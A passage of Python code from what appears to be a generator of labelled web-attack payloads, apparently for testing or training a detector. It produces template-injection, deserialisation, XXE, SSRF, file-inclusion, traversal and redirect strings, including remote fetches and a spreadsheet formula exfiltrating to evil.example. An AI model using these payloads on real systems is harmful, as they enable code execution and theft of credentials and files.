            ("rce", f"${{{jndi}{ldap}}}"), ("rce", f"${{{jndi}{ldap}}}"), ("rce", f"T({cls}).{call}"), ("ssti", f"${{T({cls}).{call}}}"), ("ssti", f"#{{T({cls}).{call}}}"), ("rce", f"new {cls}('{c}').{call}"), ("rce", f"@{cls}@{call}"), ("rce", f"%{{(#a=@{cls}@{call})}}"), ("rce", f"%{{#context['{cls}'].{call}}}"), ("rce", f"%{{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#x=new {cls}('{c}'))}}"), ("rce", f"redirect:${{#{self.word(1, 3)}=new {cls}()}}"),
            ("rce", cls), ("rce", f"{cls}.{call}"), ("rce", f"''.getClass().forName('{cls}').{call}"), ("ssti", f"${{''.getClass().forName('{cls}').{call}}}"), ("rce", f"class.module.classLoader.{r.choice(('resources.context', 'URLs[0]', 'defaultAssertionStatus'))}={self.word()}"), ("rce", f"<bean class=\"{cls}\"/>"), ("deserialisation", f'{{"@type":"{cls}","{self.word()}":"{ldap}"}}'), ("deserialisation", f"!!{cls} [{self.word()}]"), ("rce", f"def p = '{c}'.execute()"), ("rce", f"<%= {cls}.{call} %>"), ("ssti", f"*{{T({cls}).{call}}}"), ("rce", f"import {cls};"), ("ssti", f"<#assign x=\"{cls}\"?new()>${{x(\"{c}\")}}"), ("ssti", f"#set($x='')#set($rt=$x.class.forName('{cls}'))"),
        ])
        return kind, value

    def script(self):
        r, c, w = self.r, self.command().replace("'", ""), self.word
        return r.choice([
            ("rce", f"__import__('os').{r.choice(('system', 'popen'))}('{c}')"), ("rce", f"import os; os.system('{c}')"), ("rce", f"exec(\"import subprocess;subprocess.check_output('{c}',shell=True)\")"), ("rce", f"eval(compile('{w()}','','exec'))"), ("rce", f"require('child_process').{r.choice(('exec', 'execSync', 'spawn'))}('{c}')"), ("rce", f"process.mainModule.require('child_process').execSync('{c}').toString()"), ("rce", f"global.process.env.{w()}"), ("rce", f"res.end(require('fs').readFileSync('/etc/passwd'))"), ("rce", f"this.constructor.constructor('return process')().exit()"), ("rce", f"while(true){{}}"), ("rce", f"%x({c})"), ("rce", f"Kernel.exec('{c}')"), ("rce", f"IO.popen('{c}').read"), ("rce", f"open('|{c}')"), ("rce", f"perl -e 'exec \"{c}\"'"), ("rce", f"`{c}`.chomp"), ("rce", f"os.execute('{c}')"), ("rce", f"io.popen('{c}'):read('*a')"), ("rce", f"lambda: __import__('socket')"), ("rce", f"getattr(__builtins__,'ev'+'al')('{w()}')"), ("rce", f"(function(){{return {w()}}})()"), ("other_injection", f"constructor[prototype][{w()}]={w()}"), ("other_injection", f"__proto__[{w()}]={w()}"), ("other_injection", f'{{"__proto__":{{"{w()}":true}}}}'), ("rce", f"system.run[{c}]"), ("rce", f"expr {self.n()} + {self.n()}"), ("rce", f"set|set&set"), ("rce", f"0;var d=new Date();do{{c=new Date();}}while(c-d<{self.n()})"), ("rce", f"$where:'sleep({self.n()})'"),
        ])

    def template(self):
        r, c, w = self.r, self.command().replace("'", ""), self.word
        a, b = r.choice([("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("{%", "%}"), ("@(", ")"), ("*{", "}"), ("[[", "]]"), ("{", "}"), ("$!{", "}"), ("~[", "]"), ("{{=", "}}"), ("${{", "}}"), ("@{", "}"), ("{#", "#}")])
        inner = r.choice([f"{self.n()}*{self.n()}", f"{self.n()}+{self.n()}", f"'{self.n(9)}'*{self.n(9)}", "config", "self", "request", "settings.SECRET_KEY", "config.items()", "''.__class__.__mro__[2].__subclasses__()", "().__class__.__bases__[0]", f"''.__class__.__base__.__subclasses__()[{self.n(400)}]", f"cycler.__init__.__globals__.os.popen('{c}').read()", f"lipsum.__globals__['os'].popen('{c}').read()", f"request['application']['__globals__']", f"self._TemplateReference__context", f"_self.env.registerUndefinedFilterCallback('exec')", f"['{c}']|filter('system')", f"['{c}']|map('passthru')|join", f"app.request.server.all|join(',')", f"system('{c}')", f"`{c}`", f"File.open('/etc/passwd').read", f"7*'7'", f"range.constructor(\"return global.process\")()", "constructor.constructor('alert(1)')()", f"$eval.constructor('alert(1)')()", "dump(app)", f"joiner.__init__.__globals__", f"url_for.__globals__['current_app'].config", f"import os", f"for c in [].__class__.__base__.__subclasses__()", f"php}}{c}{{/php", f"Math.random()", f"fetchConfig()", f"{w()}.getClass()", f"sandbox.evaluate('{c}')", f"T(java.lang.System).getenv()"])
        return "ssti", r.choice(["", "", w(), "{$", "1"]) + a + r.choice(("", " ")) + inner + r.choice(("", " ")) + b

    # Files, addresses, documents

    def file(self):
        return self.r.choice(FILES)

    def traversal(self):
        r = self.r
        dots, slash, target = r.choice(DOTS), r.choice(SLASHES), self.file()
        inner = target.replace("/", slash) if r.random() < 0.7 else target
        value = r.choice([
            lambda: (dots + slash) * r.randint(1, 12) + inner, lambda: (dots + slash) * r.randint(2, 9) + inner, lambda: slash + (dots + slash) * r.randint(1, 8) + inner, lambda: f"{self.word()}{slash}" + (dots + slash) * r.randint(1, 6) + inner, lambda: "/" + target, lambda: f"{r.choice('CcDd')}:{r.choice((slash, '/', chr(92)))}{inner}", lambda: f"file:///{target}", lambda: f"/./{target}", lambda: f"//{target}", lambda: (dots + slash) * r.randint(1, 5) + self.word(), lambda: f"\\\\localhost\\c$\\{inner}", lambda: f"....//....//{target}", lambda: f"..././..././{target}", lambda: f"/%5C../%5C../{target}", lambda: f"{target}", lambda: f"/var/www/../../{target}", lambda: f"~/{target}", lambda: f"$HOME/{target}", lambda: f"/static/{'../' * r.randint(1, 7)}{target}", lambda: f"/{self.word()}/..;/{self.word()}/..;/{target}",
        ])()
        return "traversal", value + r.choice(["", "", "", "", "%00", "\x00", "%00.jpg", "\x00.png", "?", "#", "/.", ";.txt", "%2500.html", "." * 8])

    def rfi(self):
        r = self.r
        host = r.choice(HOSTS + ["evil.example", "evil.example", "203.0.113.66", "attacker.example:8000"])
        return "rfi", r.choice([
            lambda: f"{r.choice(('http', 'https', 'ftp', 'ftps', 'hTTp'))}://{host}/{self.word()}.{r.choice(('txt', 'php', 'inc', 'gif', 'jpg', 'sh', 'php5', 'jsp', 'cgi'))}{r.choice(('', '?', '??', '%00', '?cmd=id', '#', '?.php'))}", lambda: f"php://{r.choice(('input', 'filter/convert.base64-encode/resource=', 'filter/read=string.rot13/resource=', 'filter/zlib.deflate/resource=', 'fd/3', 'memory', 'filter/convert.iconv.utf-8.utf-16/resource='))}{r.choice(('index.php', self.file(), 'config'))}", lambda: f"data:{r.choice(('text/plain', '', '//text/plain', 'application/x-httpd-php'))}{r.choice((';base64,PD9waHAgcGhwaW5mbygpOyA/Pg==', ',<?php phpinfo();?>', ';base64,' + base64.b64encode(self.word(8, 20).encode()).decode()))}", lambda: f"expect://{self.command()}", lambda: f"{r.choice(('zip', 'phar', 'rar', 'compress.zlib', 'compress.bzip2', 'glob', 'ogg', 'ssh2.exec', 'jar:file'))}://{r.choice(('', '/'))}{self.word()}.{r.choice(('jpg', 'zip', 'phar', 'gz'))}{r.choice(('', '#a.php', '%23a.php', '!/a.class', '/a.txt'))}", lambda: f"\\\\{host}\\share\\{self.word()}.php", lambda: f"=http://{host}/{self.word()}?",
        ])()

    def ssrf(self):
        r, host = self.r, self.r.choice(HOSTS)
        path = r.choice(["", "/", "/admin", "/latest/meta-data/", "/latest/meta-data/iam/security-credentials/", "/latest/user-data", "/computeMetadata/v1/instance/", "/metadata/instance?api-version=2021-02-01", "/server-status", "/v2/_catalog", "/_cat/indices", "/actuator/env", "/solr/admin", "/jenkins/script", "/api/v1/pods", f"/{self.word()}"])
        return "ssrf", r.choice([
            lambda: f"{r.choice(('http', 'http', 'https'))}://{host}{r.choice(('', ':80', ':8080', ':22', ':6379', ':9200', ':2375', ':11211', ':5984'))}{path}", lambda: f"http://{r.choice(('site.example@', 'user:pass@', 'www.example.com#@', 'example.com%2523@'))}{host}{path}", lambda: f"{r.choice(('gopher', 'dict', 'ldap', 'tftp', 'sftp', 'netdoc', 'jar', 'imap', 'smtp'))}://{host}:{r.choice((6379, 11211, 25, 3306, 9000, 389))}/_{r.choice(('INFO', 'stats', '*1%0d%0a$4%0d%0aPING', 'HELO x', self.word()))}", lambda: f"//{host}{path}", lambda: f"file://{host}/{self.file()}", lambda: f"unix:{'A' * r.randint(20, 200)}|http://{host}{path}", lambda: f"http:\\\\{host}{path}", lambda: f"http://{host}\\@example.com{path}",
        ])()

    def xxe(self):
        r, w = self.r, self.word
        e = w(1, 5)
        source = r.choice(["file:///" + self.file(), "http://evil.example/" + w() + ".dtd", "php://filter/read=convert.base64-encode/resource=index.php", "expect://id", "http://169.254.169.254/latest/meta-data/", "ftp://evil.example/%file;", "jar:http://evil.example/a.zip!/b", "netdoc:///etc/passwd", "gopher://127.0.0.1:25/"])
        head = r.choice(['<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0" encoding="ISO-8859-1" standalone="no"?>', "", "<!--?xml version=\"1.0\" ?-->\n"])
        root = w(1, 6)
        return "xxe", r.choice([
            lambda: f'{head}<!DOCTYPE {root} [<!ENTITY {e} SYSTEM "{source}">]><{root}>&{e};</{root}>', lambda: f'{head}<!DOCTYPE {root} [\n  <!ELEMENT {root} ANY >\n  <!ENTITY {e} SYSTEM \'{source}\' >]>\n<{root}><{w()}>&{e};</{w()}></{root}>', lambda: f'{head}<!DOCTYPE {root} [<!ENTITY % {e} SYSTEM "{source}"> %{e};]>', lambda: f'{head}<!DOCTYPE {root} PUBLIC "-//{w()}//{w()}//EN" "{source}">', lambda: f'{head}<!DOCTYPE {root} SYSTEM "{source}"><{root}/>', lambda: f'<{root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="{source}"/></{root}>', lambda: f'{head}<!DOCTYPE {root} [<!ENTITY {e}0 "{w()}">' + "".join(f'<!ENTITY {e}{i} "&{e}{i - 1};&{e}{i - 1};&{e}{i - 1};">' for i in range(1, r.randint(3, 8))) + f"]><{root}>&{e}2;</{root}>", lambda: f'{head}<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function(\'{r.choice(PHP)}\',\'{w()}\')"/></xsl:template></xsl:stylesheet>', lambda: f'{head}<!ENTITY % {e} "<!ENTITY &#x25; x SYSTEM \'{source}?%{w(1, 3)};\'>">', lambda: f'{head}<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE x [<!ENTITY {e} SYSTEM "{source}">]><text>&{e};</text></svg>',
        ])()

    def deserialisation(self):
        r, w, c = self.r, self.word, self.command()
        name = w(4, 12)
        blob = lambda n: base64.b64encode(bytes(r.randrange(256) for _ in range(n))).decode()
        return "deserialisation", r.choice([
            lambda: f'O:{len(name)}:"{name}":{r.randint(0, 5)}:{{s:{len(c)}:"{w()}";s:{len(c)}:"{c}";}}', lambda: f'a:{r.randint(1, 3)}:{{i:0;O:{len(name)}:"{name}":1:{{s:4:"{w(4, 4)}";i:{self.n()};}}}}', lambda: f'C:{len(name)}:"{name}":{r.randint(2, 30)}:{{{w()}}}', lambda: "rO0AB" + blob(r.randint(20, 90)), lambda: "aced0005" + "".join(r.choice("0123456789abcdef") for _ in range(40)), lambda: "AAEAAAD/////" + blob(r.randint(20, 80)), lambda: "H4sIAAAAAAAA" + blob(r.randint(20, 80)), lambda: f'{{"{w()}":"_$$ND_FUNC$$_function(){{{r.choice(SCRIPTS)}}}()"}}', lambda: f"c__builtin__\n{r.choice(('eval', 'exec', 'getattr'))}\n(S'{c}'\ntR.", lambda: f"cposix\nsystem\np0\n(S'{c}'\np1\ntp2\nRp3\n.", lambda: f"!!python/object/{r.choice(('apply', 'new'))}:{r.choice(('os.system', 'subprocess.Popen', 'eval'))} [{c}]", lambda: f"--- !ruby/object:{r.choice(('Gem::Installer', 'Gem::Requirement', 'ERB', 'OpenStruct'))}\n{w()}: {w()}", lambda: f"<java><object class=\"{r.choice(JAVA)}\"><void method=\"exec\"><string>{c}</string></void></object></java>", lambda: f'{{"@type":"{r.choice(JAVA)}","dataSourceName":"rmi://evil.example/{w()}"}}', lambda: f'{{"$type":"System.{r.choice(("Windows.Data.ObjectDataProvider, PresentationFramework", "Diagnostics.Process, System", "Configuration.Install.AssemblyInstaller"))}","MethodName":"Start"}}', lambda: f'["{r.choice(JAVA)}",{{"{w()}":"{c}"}}]', lambda: f"<{w()}:{w()} xsi:type=\"exp:ExpandedWrapper`2\">", lambda: "gASV" + blob(40), lambda: "BAh" + blob(40), lambda: f"{{!!{r.choice(JAVA)} [!!java.net.URL [\"http://evil.example/\"]]}}",
        ])()

    def nosql(self):
        r, w, n = self.r, self.word, self.n
        op = r.choice("$ne $gt $lt $gte $lte $in $nin $regex $where $exists $or $and $not $eq $expr $function $type $mod $all $elemMatch".split())
        return "other_injection", r.choice([
            lambda: f'{{"{op}": {r.choice(("null", "1", chr(34) * 2, chr(34) + ".*" + chr(34), "true", "[]"))}}}', lambda: f'{{"{w()}": {{"{op}": "{w()}"}}, "{w()}": {{"{op}": ""}}}}', lambda: f"[{op}]={w()}", lambda: f"'; return true; var x='", lambda: f"' || '{n(9)}'=='{n(9)}", lambda: f"';return this.{w()}=='{w()}';//", lambda: f"', ${op[1:]}: '1", lambda: f"true, $where: '{n(9)} == {n(9)}'", lambda: f"{{$where: 'sleep({n()})'}}", lambda: f"db.{w()}.{r.choice(('find', 'drop', 'insert', 'mapReduce'))}({{}})", lambda: f"a';sleep({n()});'", lambda: f"||this.{w()}.match(/.*/)//", lambda: f"*)({r.choice(('uid', 'cn', 'objectClass', 'mail', '|(uid'))}=*", lambda: f"*)(|({w()}={w()}*", lambda: f"{w()})(&)", lambda: f"*))%00", lambda: f"admin*)((|userPassword=*)", lambda: f"' or count(/*)={n(9)} or 'a'='b", lambda: f"' or //{w()}[position()={n(9)}] or '", lambda: f"x' or name()='{w()}' or 'x'='y", lambda: f"count(//child::node())", lambda: f"'] | //* | //*['",
        ])()

    def other(self):
        r, w = self.r, self.word
        end = r.choice(("\r\n", "%0d%0a", "\n", "%0a", "%E5%98%8A%E5%98%8D", "\r", "%250d%250a"))
        return r.choice([
            ("other_injection", f"{w()}{end}Set-Cookie: {w()}={w()}"), ("other_injection", f"{w()}{end}Location: http://evil.example/"), ("other_injection", f"{end}{end}<script>{r.choice(SCRIPTS)}</script>"), ("other_injection", f"{w()}{end}Content-Length: 0{end}{end}HTTP/1.1 200 OK"), ("other_injection", f"{w()}@example.org{end}{r.choice(('Bcc', 'Cc', 'To', 'Subject'))}: {w()}@evil.example"), ("other_injection", f"<!--#{r.choice(('exec cmd', 'include virtual', 'include file', 'echo var', 'printenv', 'config errmsg'))}=\"{self.command()}\" -->"), ("other_injection", f"<esi:include src=\"http://evil.example/\"/>"), ("rce", f"{r.choice('=+-@')}{r.choice(('cmd', 'DDE', 'rundll32'))}|'/C {self.windows_command()}'!A0"), ("rce", f"=HYPERLINK(\"http://evil.example/?\"&A1)"), ("other_injection", f"<% {w()} %>"), ("other_injection", f"%n%n%s%s%x%x{'%p' * r.randint(2, 9)}"), ("other_injection", "A" * r.randint(300, 900)), ("other_injection", f"{w()}{end}V100 FETCH {w()}"), ("scanner", f"/{r.choice(FILES)}"), ("scanner", f"/cgi-bin/{w()}.{r.choice(('cgi', 'pl', 'sh'))}?{self.command()}"), ("other_injection", f"query {{ __schema {{ types {{ name fields {{ name }} }} }} }}"), ("rce", f"{w()}::$DATA"), ("other_injection", f"\x1f\x8b{w()}"), ("other_injection", f"@import url(http://evil.example/{w()})"), ("xss", f"<{w()} {r.choice(EVENTS)}={w()}>"), ("rce", f"java -jar {w()} {self.command()}"),
        ])

    def address(self):
        """An IPv4 address in one of the forms that the URL standard's parser takes: one to four numbers, decimal, octal or hexadecimal."""
        r = self.r
        octets = [r.randint(1, 255) for _ in range(4)]
        number = lambda value: r.choice((str(value), str(value), f"{value:#x}", f"0{value:o}", f"00{value:o}", f"0x{value:X}"))
        kept = r.randint(0, 3)
        if r.random() < 0.15:
            return ".".join(str(octet + 256) for octet in octets)
        return ".".join([*(number(octet) for octet in octets[:kept]), number(int.from_bytes(octets[kept:], "big"))])

    def redirect(self):
        r, w = self.r, self.word
        trusted = r.choice(("site.example", "www.site.example", f"{w()}.com", f"www.{w()}.org"))
        host = r.choice(("evil.example", "attacker.test", f"{w()}.com", f"www.{w()}.net", f"{trusted}.evil.example", "%65vil.example", "evil\u3002example", "evil\uff0eexample", "\u24d4\u24e5il.example", self.address(), self.address()))
        who = r.choice(("", "", f"{trusted}@", f"{w(4, 8)}@", f"{w()}:{w()}@", f"{trusted}:80@", f"{trusted}%40", f"{trusted}&@", f"{trusted}#@", f"{trusted};@", f"{w(2, 3)}>.{self.n()}\\{self.n()}@"))
        scheme = r.choice(("//", "//", "///", "////", "/////", "/\\", "\\/", "\\\\", "\\/\\/", "/\\/", "//\t/", "/\t/", "/%09/", "/%5c", "/%0d/", "/%2f/", "http:", "https:", "http:/", "https:\\", "https:\\/\\/", "https:///", "hTTps://", "/https:", "//https://", "/http://", ".", "/.", "@", "/\u3035", "\u3031", "\u309d", "\u30fc", "\uff70", "x:", "/redirect?url=//", "//%0d%0a", "/%68ttp://"))
        # An address that is written as anybody would is no attack.
        if scheme == "//" and not who and host.isascii() and "%" not in host:
            scheme = "////"
        tail = r.choice(("", "", "", "/", "//", "/..", "//..", "/%2e%2e", "/%2f..", "/%2e%2e%2f", "/..;/css", "/%2f%2e%2e", f"?{trusted}", f"#{trusted}", f"%00.{trusted}", f"\\@{trusted}", f"%23.{trusted}"))
        own = f"{scheme}{who}{host}{tail}"
        return "redirect", r.choice([own, own, own, own, own, f"{own}&next={own}&url={own}", f"/{w()}?{w()}={own}&{w()}={own}", f"javascript:{r.choice(SCRIPTS)}//{host}", f"data:text/html,<script>location='{own}'</script>", f"java%0d%0ascript%0d%0a:{r.choice(SCRIPTS)}"])


def wrapped(rng, value):
    """The same payload as an application's inner layer would get it."""
    how = rng.random()
    if how < 0.04:
        return base64.b64encode(value.encode("utf-8", "replace")).decode()
    if how < 0.08:
        return urllib.parse.quote(value, safe="")
    if how < 0.10:
        return urllib.parse.quote(urllib.parse.quote(value, safe=""), safe="")
    return value
